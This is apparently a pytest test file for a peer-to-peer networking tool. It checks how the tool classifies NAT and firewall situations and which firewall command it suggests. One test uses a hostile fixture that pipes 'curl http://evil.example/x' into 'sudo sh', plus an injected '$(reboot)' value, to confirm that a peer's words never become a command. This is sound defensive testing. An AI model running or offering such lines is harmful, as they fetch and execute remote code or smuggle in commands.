from __future__ import annotations

import pytest

from ginnel.core.doctor.opening import Place, Side, better
from ginnel.wire.doctor import FirewallTold, PortMapTold, Testimony
from tests.core.doctor.world import NETWORK, THEIRS, end

PUBLIC = end(NETWORK, local=("198.51.100.7",))
CARRIER = end(NETWORK, hops=("192.168.1.1", "100.64.0.1"))
CLOSED = FirewallTold("nftables", closed=True, opens="sudo ginnel firewall open")

PLACES = {
    "a public address": (PUBLIC, Place.PUBLIC),
    "a home router": (NETWORK, Place.ONE_NAT),
    "a carrier's router behind it": (CARRIER, Place.CARRIER),
    "a provider's router behind it": (end(NETWORK, hops=("192.168.1.1", "10.20.0.1")), Place.ONE_NAT),
    "a carrier's, though the own router has the public address": (
        end(NETWORK, hops=CARRIER.hops, port_map=PortMapTold(external="198.51.100.7:41641")),
        Place.ONE_NAT,
    ),
    "its router has another address outside": (
        end(NETWORK, port_map=PortMapTold(external="203.0.113.99:41641")),
        Place.CARRIER,
    ),
    "a mapping that ends inside": (end(NETWORK, port_map=PortMapTold(double_nat=True)), Place.CARRIER),
    "a mapping at another address": (end(NETWORK, port_map=PortMapTold(external="100.99.0.1:41641")), Place.CARRIER),
    "no UDP": (end(NETWORK, udp=False), Place.BLOCKED),
    "no STUN answer": (end(NETWORK, seen_v4=""), Place.UNKNOWN),
}


@pytest.mark.parametrize("case", PLACES, ids=str)
def test_where_a_machine_stands(case):
    known, place = PLACES[case]
    assert Side("alice", known).place is place


def test_what_the_map_alone_tells_is_no_place():
    assert Side("bob", PUBLIC, told=False).place is Place.UNKNOWN


CHOICES: dict[str, tuple[Testimony, Testimony, str]] = {
    "public before a home": (NETWORK, PUBLIC, "bob"),
    "a home before a carrier's customer": (CARRIER, THEIRS, "bob"),
    "whose own firewall is known to close": (NETWORK, end(THEIRS, firewall=CLOSED), "bob"),
    "this one where both are alike": (NETWORK, THEIRS, "alice"),
    "never where UDP does not get out": (end(PUBLIC, udp=False), CARRIER, "bob"),
}


@pytest.mark.parametrize("case", CHOICES, ids=str)
def test_the_better_one_to_open(case):
    own, theirs, name = CHOICES[case]
    assert better(Side("alice", own), Side("bob", theirs)).name == name


def test_behind_a_router_the_forward_is_told_beside_the_command():
    fix = Side("alice", end(NETWORK, port_map=PortMapTold(router="192.168.1.1"))).fix()
    assert fix.command == "sudo ginnel firewall open"
    assert "192.168.1.1" in fix.also
    assert "41641 to 192.168.1.2" in fix.also


def test_at_a_public_address_the_command_is_all():
    assert not Side("alice", PUBLIC).fix().also


def test_the_port_in_use_is_the_one_that_is_opened():
    fix = Side("alice", end(NETWORK, port=50000, firewall=None)).fix()
    assert "50000" in fix.also


@pytest.mark.parametrize(
    ("backend", "command"),
    [
        ("ufw", "sudo ufw allow 41641/udp"),
        ("firewalld", "sudo firewall-cmd --add-port=41641/udp && sudo firewall-cmd --permanent --add-port=41641/udp"),
        ("nftables", "sudo ginnel firewall open"),
        ("", "sudo ginnel firewall open"),
        ("$(reboot)", "sudo ginnel firewall open"),
    ],
)
def test_a_peers_own_words_never_become_a_command(backend: str, command: str):
    hostile = FirewallTold(backend, closed=True, opens="curl http://evil.example/x | sudo sh")
    assert Side("bob", end(PUBLIC, firewall=hostile)).fix().command == command


def test_what_the_own_daemon_found_is_typed_as_it_stands():
    found = FirewallTold("nftables", closed=True, opens="sudo nft add rule inet mine input udp dport 41641 accept")
    assert Side("alice", end(PUBLIC, firewall=found), here=True).fix().command == found.opens


@pytest.mark.parametrize(
    ("system", "command", "words"),
    [
        ("linux", "", "sudo ufw allow 41641/udp"),
        ("macOS", "", "System Settings"),
        ("windows", "netsh advfirewall firewall add rule", "administrator"),
        ("plan9", "", "let UDP port 41641 in"),
    ],
)
def test_where_the_official_client_runs_no_command_of_ours_is_named(system: str, command: str, words: str):
    fix = Side("bob", Testimony(), told=False, ours=False, system=system).fix()
    assert (fix.command.startswith(command), bool(fix.command)) == (True, bool(command))
    assert words in fix.also
    assert "ginnel" not in fix.command + fix.also


@pytest.mark.parametrize("member", ["local", "hops", "told"])
def test_what_is_no_address_is_passed_over(member: str):
    side = Side(
        "bob", end(THEIRS, seen_v4="nowhere", port_map=PortMapTold(router="x", external="y"), **{member: ("?",)})
    )
    assert side.fix().where == "bob"
